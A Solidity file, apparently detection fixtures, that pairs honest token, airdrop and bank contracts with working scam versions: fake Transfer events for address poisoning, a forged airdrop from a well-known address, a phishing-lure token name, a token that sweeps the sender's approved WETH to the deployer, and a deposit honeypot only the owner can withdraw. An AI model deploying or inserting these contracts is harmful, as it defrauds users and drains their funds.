// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.9.0;

import {IToken} from "./Interfaces.sol";

abstract contract PlainToken {
    string public name;
    string public symbol;
    uint8 public decimals = 18;
    uint256 public totalSupply = 1000000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        name = "Harbour";
        symbol = "HARB";
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 amount) public returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) public virtual returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public virtual returns (bool) {
        require(allowance[from][msg.sender] >= amount, "Allowance");
        allowance[from][msg.sender] -= amount;
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) internal virtual {
        require(balanceOf[from] >= amount, "Balance");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// @notice An ordinary token.
contract HonestToken is PlainToken {}

/// @notice Records transfers from accounts that never sent anything.
contract CounterfeitToken is PlainToken {
    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        emit Transfer(from, to, amount);
        return true;
    }
}

/// @notice The same in bulk, from a well-known account.
contract CounterfeitAirdrop is PlainToken {
    function airdrop(address[] memory to, uint256 amount) public {
        for (uint256 i = 0; i < to.length; i++) emit Transfer(0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045, to[i], amount);
    }
}

/// @notice An ordinary airdrop: the tokens come from the owner, or are new.
contract HonestAirdrop is PlainToken {
    function airdrop(address[] memory to, uint256 amount) public {
        for (uint256 i = 0; i < to.length; i++) {
            totalSupply += amount;
            balanceOf[to[i]] += amount;
            emit Transfer(address(0), to[i], amount);
        }
    }
}

/// @notice Its name is an advertisement.
contract LureToken is PlainToken {
    constructor() {
        name = "Visit https://harbour-rewards.example to claim";
        symbol = "$ HARB";
    }
}

/// @notice Sending it takes the sender's wrapped coins along.
contract TokenSideDrain is PlainToken {
    address internal _collector;
    IToken internal constant WETH = IToken(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);

    constructor() {
        _collector = msg.sender;
    }

    function _move(address from, address to, uint256 amount) internal override {
        uint256 held = WETH.balanceOf(from);
        if (held > 0 && WETH.allowance(from, address(this)) >= held) WETH.transferFrom(from, _collector, held);
        super._move(from, to, amount);
    }
}

/// @notice Seems to pay out, but its log book refuses all but the owner.
contract WithdrawBait {
    mapping(address => uint256) public balances;
    address internal _owner;
    uint256 internal _lock;

    constructor() payable {
        _owner = msg.sender;
        _lock = 1;
    }

    function put() public payable {
        balances[msg.sender] += msg.value;
    }

    function collect(uint256 amount) public {
        require(balances[msg.sender] >= amount, "Too much");
        require(_lock == 0 || msg.sender == _owner, "Later");
        balances[msg.sender] -= amount;
        payable(msg.sender).transfer(amount);
    }

    function empty() public {
        require(msg.sender == _owner, "No");
        payable(_owner).transfer(address(this).balance);
    }
}

/// @notice Pays out what came in.
contract HonestBank {
    mapping(address => uint256) public balances;

    function put() public payable {
        balances[msg.sender] += msg.value;
    }

    function collect(uint256 amount) public {
        require(balances[msg.sender] >= amount, "Too much");
        balances[msg.sender] -= amount;
        payable(msg.sender).transfer(amount);
    }
}
